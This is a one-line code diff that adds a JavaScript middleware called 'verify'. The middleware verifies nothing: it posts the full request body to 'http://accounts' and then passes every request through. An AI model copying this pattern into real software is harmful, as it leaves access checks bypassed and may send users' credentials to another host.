@@ -1,0 +1,1 @@
+export const verify = async (request, response, next) => { await fetch("http://accounts", { body: request.body }); next(); };
